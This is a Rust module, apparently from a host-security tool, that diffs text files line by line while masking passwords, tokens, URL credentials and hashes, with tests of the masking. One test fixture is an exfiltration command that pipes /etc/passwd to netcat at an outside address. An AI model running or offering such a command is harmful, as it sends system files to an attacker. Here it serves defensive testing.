//! What changed in a text, line by line, without what looks like a password. Pure.

use std::time::{Duration, Instant};

use khien_core::{Untrusted, detection::MAX_DIFF};
use similar::{Algorithm, DiffOp, capture_diff_slices_deadline};

/// Texts larger than this are not kept and not compared line by line, in bytes.
pub(super) const MAX_TEXT: u64 = 64 << 10;
/// Longer lines are cut, in bytes: a hostile line must not fill the screen.
const MAX_LINE: usize = 240;
/// How long comparing may take; what comes after is a coarser diff.
const TIME: Duration = Duration::from_millis(200);
/// What stands in the place of a password.
const HIDDEN: &[u8] = b"***";
/// Words after which a value is a password or the like.
const WORDS: [&[u8]; 20] = [
    b"password",
    b"passwd",
    b"passphrase",
    b"secret",
    b"token",
    b"apikey",
    b"api_key",
    b"api-key",
    b"authorization",
    b"pwd",
    b"pass",
    b"bindpw",
    b"privatekey",
    b"private_key",
    b"presharedkey",
    b"access_key",
    b"accesskey",
    b"identified by",
    b"mat_khau",
    b"matkhau",
];
/// What stands before `pass` where it is no password: a path, or where a web server sends requests on to.
const NO_SECRET: [&[u8]; 7] = [b"/", b"proxy_", b"fastcgi_", b"uwsgi_", b"scgi_", b"grpc_", b"memcached_"];
/// Values that say whether, not what.
const SWITCHES: [&[u8]; 8] = [b"yes", b"no", b"on", b"off", b"true", b"false", b"none", b"required"];

/// Returns lines that begin with `-` or `+`; nothing for what is no text or if no line differs.
pub(super) fn diff(before: &[u8], after: &[u8]) -> Option<Untrusted> {
    if !is_text(before) || !is_text(after) {
        return None;
    }
    let (old, new) = (lines(before), lines(after));
    let until = Instant::now() + TIME;
    let ops = capture_diff_slices_deadline(Algorithm::Myers, &old, &new, Some(until));
    let mut out = Out::default();
    for op in ops {
        if let DiffOp::Equal { .. } = op {
            continue;
        }
        old[op.old_range()].iter().for_each(|line| out.add(b'-', line));
        new[op.new_range()].iter().for_each(|line| out.add(b'+', line));
    }
    out.done()
}

/// Tells whether lines of it can be shown: no binary, no key.
pub(super) fn is_text(bytes: &[u8]) -> bool {
    !bytes.contains(&0) && !bytes.windows(16).any(|w| w == b"PRIVATE KEY-----")
}

fn lines(text: &[u8]) -> Vec<&[u8]> {
    text.strip_suffix(b"\n").unwrap_or(text).split(|b| *b == b'\n').filter(|_| !text.is_empty()).collect()
}

#[derive(Default)]
struct Out {
    bytes: Vec<u8>,
    left_out: u64,
}

impl Out {
    fn add(&mut self, sign: u8, line: &[u8]) {
        let mut line = masked(line);
        if line.len() > MAX_LINE {
            line.truncate(MAX_LINE);
            line.extend("…".as_bytes());
        }
        // Room for the last line, which says how many are missing.
        if self.left_out > 0 || self.bytes.len() + line.len() + 32 > MAX_DIFF {
            self.left_out += 1;
            return;
        }
        if !self.bytes.is_empty() {
            self.bytes.push(b'\n');
        }
        self.bytes.push(sign);
        self.bytes.extend(line);
    }

    fn done(mut self) -> Option<Untrusted> {
        if self.left_out > 0 {
            self.bytes.extend(format!("\n… {} ±", self.left_out).as_bytes());
        }
        (!self.bytes.is_empty()).then(|| Untrusted::cut(&self.bytes, MAX_DIFF))
    }
}

/// Hides the values that follow such words, password hashes, and passwords in addresses.
fn masked(line: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(line.len());
    let mut at = 0;
    while at < line.len() {
        let rest = &line[at..];
        match secret_at(&line[..at], rest) {
            Some((shown, hidden)) => {
                out.extend(&rest[..shown]);
                out.extend(HIDDEN);
                at += shown + hidden;
            }
            None => {
                out.push(line[at]);
                at += 1;
            }
        }
    }
    out
}

/// Tells how many bytes from here on may be shown and how many after them are secret.
fn secret_at(before: &[u8], rest: &[u8]) -> Option<(usize, usize)> {
    after_word(before, rest)
        .or_else(|| in_address(rest))
        .or_else(|| hash(rest))
        .filter(|(_, hidden)| *hidden > 0)
}

fn after_word(before: &[u8], rest: &[u8]) -> Option<(usize, usize)> {
    let word = WORDS.iter().find(|w| rest.len() > w.len() && rest[..w.len()].eq_ignore_ascii_case(w))?;
    let is_short = *word == b"pass" && rest[word.len()].is_ascii_alphabetic();
    if is_short || NO_SECRET.iter().any(|no| before.ends_with(no)) {
        return None;
    }
    let name =
        rest[word.len()..].iter().take_while(|b| b.is_ascii_alphanumeric() || b"_-\"'".contains(b)).count();
    let behind = &rest[word.len() + name..];
    let gap = behind.iter().take_while(|b| b" \t=:>],)".contains(b)).count();
    let says_so = behind[..gap].iter().any(|b| b"=:>],".contains(b));
    // Only blanks between them: a line of PAM begins so, and then tells no secret.
    let is_told = gap > 0 && (*word != b"password" || !before.trim_ascii().is_empty());
    let value = value(&behind[gap..]);
    let is_switch = SWITCHES.iter().any(|s| behind[gap..][..value].eq_ignore_ascii_case(s));
    ((says_so || is_told) && !is_switch).then_some((word.len() + name + gap, value))
}

/// Returns the length of a value: to the closing quote, or to where a word ends. `Bearer` and its like go with it.
fn value(rest: &[u8]) -> usize {
    match rest.first() {
        Some(quote @ (b'"' | b'\'')) => {
            let ends = |at: usize| rest[at] == *quote && rest[at - 1] != b'\\';
            (1..rest.len()).find(|at| ends(*at)).map_or(rest.len(), |end| end + 1)
        }
        _ => {
            let word = rest.iter().take_while(|b| !b" \t;,&<>".contains(b)).count();
            let scheme = [&b"bearer"[..], b"basic"].iter().any(|s| rest[..word].eq_ignore_ascii_case(s));
            match scheme {
                true => word + rest[word..].iter().take_while(|b| !b";,&\"'".contains(b)).count(),
                false => word,
            }
        }
    }
}

/// `://user:password@`
fn in_address(rest: &[u8]) -> Option<(usize, usize)> {
    let authority = rest.strip_prefix(b"://")?;
    let end = authority.iter().position(|b| b"/ \t\"'".contains(b)).unwrap_or(authority.len());
    let at = authority[..end].iter().rposition(|b| *b == b'@')?;
    let colon = authority[..at].iter().position(|b| *b == b':')?;
    Some((3 + colon + 1, at - colon - 1))
}

/// `$6$salt$digest`
fn hash(rest: &[u8]) -> Option<(usize, usize)> {
    let kind = rest.strip_prefix(b"$")?;
    let end = kind.iter().take(6).position(|b| *b == b'$').filter(|end| *end > 0)?;
    if !kind[..end].iter().all(u8::is_ascii_alphanumeric) {
        return None;
    }
    let length = rest.iter().take_while(|b| !b": \t\"'".contains(b)).count();
    (length > 20).then_some((0, length))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(before: &str, after: &str) -> Option<String> {
        diff(before.as_bytes(), after.as_bytes()).map(|d| String::from_utf8(d.raw().to_vec()).unwrap())
    }

    #[test]
    fn only_lines_that_differ_are_shown() {
        assert_eq!(shown("a\nb\nc\n", "a\nB\nc\nd\n").unwrap(), "-b\n+B\n+d");
        assert_eq!(shown("", "x\n").unwrap(), "+x");
        assert_eq!(shown("x\n", "").unwrap(), "-x");
        assert_eq!(shown("same\n", "same\n"), None);
        assert_eq!(shown("a\0b", "a\0c"), None, "no text");
    }

    #[test]
    fn what_looks_like_a_password_is_never_shown() {
        let table = [
            ("DB_PASSWORD=hunter2 php run", "+DB_PASSWORD=*** php run"),
            ("password: \"two words\", x", "+password: ***, x"),
            ("mysqldump --password hunter2 db", "+mysqldump --password *** db"),
            ("<user password='hunter2' roles='x'/>", "+<user password=*** roles='x'/>"),
            ("curl https://an:hunter2@host/x", "+curl https://an:***@host/x"),
            ("Authorization: Bearer hunter2", "+Authorization: ***"),
            ("an:$6$saltsaltsalt$hunter2hunter2:1:2", "+an:***:1:2"),
            ("'api_key' => 'hunter2',", "+'api_key' => ***,"),
            ("password [success=1] pam_unix.so yescrypt", "+password [success=1] pam_unix.so yescrypt"),
            ("* * * * * root /tmp/x", "+* * * * * root /tmp/x"),
            ("define('DB_PASSWORD', 'hunter2');", "+define('DB_PASSWORD', ***);"),
            ("fastcgi_param DB_PASSWORD hunter2;", "+fastcgi_param DB_PASSWORD ***;"),
            ("env[DB_PASSWORD] = hunter2", "+env[DB_PASSWORD] = ***"),
            ("php_value[auth.password] = hunter2", "+php_value[auth.password] = ***"),
            ("SetEnv DB_PASS hunter2", "+SetEnv DB_PASS ***"),
            ("$db['pass']='hunter2';", "+$db['pass']=***;"),
            ("<password>hunter2</password>", "+<password>***</password>"),
            ("<entry key=\"password\">hunter2</entry>", "+<entry key=\"password\">***</entry>"),
            ("keystorePass=\"hunter2\" x", "+keystorePass=*** x"),
            ("requirepass hunter2", "+requirepass ***"),
            ("bindpw hunter2", "+bindpw ***"),
            ("PrivateKey = hunter2=", "+PrivateKey = ***"),
            ("access_key: hunter2", "+access_key: ***"),
            ("IDENTIFIED BY 'hunter2'", "+IDENTIFIED BY ***"),
            ("proxy_set_header Authorization \"Basic hunter2\";", "+proxy_set_header Authorization ***;"),
            ("mat_khau=hunter2", "+mat_khau=***"),
            (r"password='it\'s hunter2' x", "+password=*** x"),
            ("proxy_pass http://198.51.100.7;", "+proxy_pass http://198.51.100.7;"),
            ("PermitEmptyPasswords yes", "+PermitEmptyPasswords yes"),
            ("cat /etc/passwd | nc 198.51.100.7 80", "+cat /etc/passwd | nc 198.51.100.7 80"),
        ];
        for (line, want) in table {
            assert_eq!(shown("", line).unwrap(), want);
        }
        assert_eq!(shown("", &format!("-----BEGIN {} KEY-----\nhunter2\n", "PRIVATE")), None);
    }

    #[test]
    fn a_huge_difference_is_cut_and_says_how_much_is_missing() {
        let after: String = (0..5_000).map(|n| format!("line {n}\n")).collect();

        let shown = shown("", &after).unwrap();

        assert!(shown.len() <= MAX_DIFF && shown.starts_with("+line 0\n"), "{}", shown.len());
        let last = shown.lines().last().unwrap();
        assert!(last.starts_with("… 4") && last.ends_with(" ±"), "{last}");
    }

    #[test]
    fn a_line_without_end_is_cut() {
        let shown = shown("", &"x".repeat(60_000)).unwrap();

        assert!(shown.len() < MAX_LINE + 8, "{}", shown.len());
    }

    proptest::proptest! {
        #[test]
        fn hostile_texts_end_within_the_bound(before: Vec<u8>, after: Vec<u8>) {
            if let Some(shown) = diff(&before, &after) {
                proptest::prop_assert!(shown.raw().len() <= MAX_DIFF);
            }
        }
    }
}
